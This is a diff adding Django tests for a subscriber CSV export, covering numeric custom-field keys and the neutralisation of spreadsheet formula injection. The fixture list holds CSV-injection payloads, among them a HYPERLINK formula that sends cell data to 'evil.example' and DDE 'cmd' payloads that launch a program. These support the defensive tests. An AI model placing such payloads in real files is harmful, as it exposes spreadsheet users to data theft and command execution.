@@ -132,6 +132,155 @@ def test_fields_and_filters_select_columns_and_rows(
     assert download(api, result["url"]) == [["custom:plan", "email", "custom:missing"], *expected]
 
 
+NUMERIC_KEYS = ["0", "7", "1_000", "01", "1.5", "1e3", "00"]
+
+
+def test_numeric_custom_keys_export_their_values(
+    workspace_client: Callable[..., APIClient], export_path: str
+) -> None:
+    """Keys that read as numbers are still object keys, never array indexes (Django's
+    KeyTextTransform takes "0" and "1_000" for indexes, so they exported as empty cells)."""
+    api = workspace_client("acme")
+    mappings = [
+        {"csv_column": "Email", "field": {"type": "email"}},
+        *(
+            {"csv_column": f"K{key}", "field": {"type": "custom", "key": key}}
+            for key in NUMERIC_KEYS
+        ),
+    ]
+    header = ",".join(["Email", *(f"K{key}" for key in NUMERIC_KEYS)])
+    rows = [f"n{n}@example.com," + ",".join(f"{key}:{n}" for key in NUMERIC_KEYS) for n in range(3)]
+    body = {"csv_text": "\n".join([header, *rows]) + "\n", "mappings": mappings}
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        created = api.post("/v1/jobs/subscriber-imports", body, format="json")
+    assert api.get(created["Location"]).json()["status"] == "succeeded"
+    listed = api.get("/v1/subscribers").json()["results"]
+    assert [s["custom_fields"] for s in listed] == [
+        {key: f"{key}:{n}" for key in NUMERIC_KEYS} for n in range(3)
+    ]
+    fields = ["email", *(f"custom:{key}" for key in NUMERIC_KEYS)]
+    result = run_export(api, {"fields": fields})["result"]
+    assert download(api, result["url"]) == [
+        fields,
+        *([f"n{n}@example.com", *(f"{key}:{n}" for key in NUMERIC_KEYS)] for n in range(3)),
+    ]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "'=1+1",  # neutralised already: one more quote, so that a re-import gets it back
+    "''+1",
+    "'quoted",
+    "a=b",
+    " =1+1",
+    "",
+    "plain",
+]
+FORMULA_EMAILS = ["=1+1@example.com", "-dash@example.com", "+plus@example.com", "a@example.com"]
+FORMULA_FIELDS = ["email", "name", "first_name", "last_name", "custom:note", "status"]
+
+
+def neutralised(value: str) -> str:
+    """OWASP's leading quote before a cell that would start a formula, or before the quotes
+    of a cell neutralised already."""
+    return "'" + value if value.lstrip("'")[:1] in {*"=+-@\t\r"} - {""} else value
+
+
+def add_formula_subscribers(workspace: str) -> list[Subscriber]:
+    space, _ = Workspace.objects.get_or_create(name=workspace)
+    count = len(FORMULAS)
+    Subscriber.objects.bulk_create(
+        Subscriber(
+            workspace=space,
+            email=FORMULA_EMAILS[i] if i < len(FORMULA_EMAILS) else f"f{i}@example.com",
+            name=FORMULAS[i],
+            first_name=FORMULAS[(i + 1) % count],
+            last_name=FORMULAS[(i + 2) % count],
+            # An empty cell never stores a custom field: none is stored empty here either.
+            custom_fields={"note": note} if (note := FORMULAS[(i + 3) % count]) else {},
+            created_at=T0 + timedelta(seconds=i),
+        )
+        for i in range(count)
+    )
+    return list(Subscriber.objects.filter(workspace=space).order_by("created_at", "id"))
+
+
+def formula_row(s: Subscriber, neutralise: Callable[[str], str]) -> list[str]:
+    cells = [s.email, s.name, s.first_name, s.last_name, s.custom_fields.get("note", "")]
+    return [*map(neutralise, cells), s.status]
+
+
+def test_cells_that_would_start_a_formula_are_neutralised(
+    workspace_client: Callable[..., APIClient], export_path: str
+) -> None:
+    """SPEC §6, on by default: a leading ' before =, +, -, @, tab or CR, in every text column."""
+    api = workspace_client("acme")
+    subscribers = add_formula_subscribers("acme")
+    result = run_export(api, {"fields": FORMULA_FIELDS})["result"]
+    rows = download(api, result["url"])
+    assert rows == [FORMULA_FIELDS, *(formula_row(s, neutralised) for s in subscribers)]
+    assert rows[1][:2] == ["'=1+1@example.com", "'" + FORMULAS[0]]
+
+
+def test_neutralising_formulas_can_be_turned_off(
+    workspace_client: Callable[..., APIClient], export_path: str, settings: Any
+) -> None:
+    settings.EXAMPLE_SUBSCRIBER_EXPORT_NEUTRALISE_FORMULAS = False
+    api = workspace_client("acme")
+    subscribers = add_formula_subscribers("acme")
+    result = run_export(api, {"fields": FORMULA_FIELDS})["result"]
+    rows = download(api, result["url"])
+    assert rows == [FORMULA_FIELDS, *(formula_row(s, str) for s in subscribers)]
+
+
+def test_reimporting_a_neutralised_export_stores_the_exported_values(
+    workspace_client: Callable[..., APIClient], export_path: str
+) -> None:
+    """The import reads a leading ' before a formula the way a spreadsheet does (a quote
+    prefix, not data), so an export imported again into another workspace, or into the same
+    one, stores exactly the values it was made from."""
+    api = workspace_client("acme")
+    subscribers = add_formula_subscribers("acme")
+    result = run_export(api, {"fields": FORMULA_FIELDS})["result"]
+    exported = b"".join(api.get(result["url"]).streaming_content).decode()
+    mappings = [
+        {"csv_column": "email", "field": {"type": "email"}},
+        {"csv_column": "name", "field": {"type": "name"}},
+        {"csv_column": "first_name", "field": {"type": "first_name"}},
+        {"csv_column": "last_name", "field": {"type": "last_name"}},
+        {"csv_column": "custom:note", "field": {"type": "custom", "key": "note"}},
+    ]
+
+    def values(workspace: str) -> list[tuple[Any, ...]]:
+        return list(
+            Subscriber.objects.filter(workspace__name=workspace)
+            .order_by("email")
+            .values_list("email", "name", "first_name", "last_name", "custom_fields")
+        )
+
+    before = values("acme")
+    assert sorted(row[1] for row in before) == sorted(s.name for s in subscribers)
+    other = workspace_client("other")
+    for client in (other, api):
+        with TestCase.captureOnCommitCallbacks(execute=True):
+            created = client.post(
+                "/v1/jobs/subscriber-imports",
+                {"csv_text": exported, "mappings": mappings},
+                format="json",
+            )
+        job = client.get(created["Location"]).json()
+        assert job["status"] == "succeeded", job
+        assert job["result"]["failed"] == 0, job["result"]
+    assert job["result"]["created"] == job["result"]["updated"] == 0  # the same values
+    assert values("acme") == values("other") == before
+
+
 def test_an_empty_selection_is_a_header_only_file(
     workspace_client: Callable[..., APIClient], export_path: str
 ) -> None:
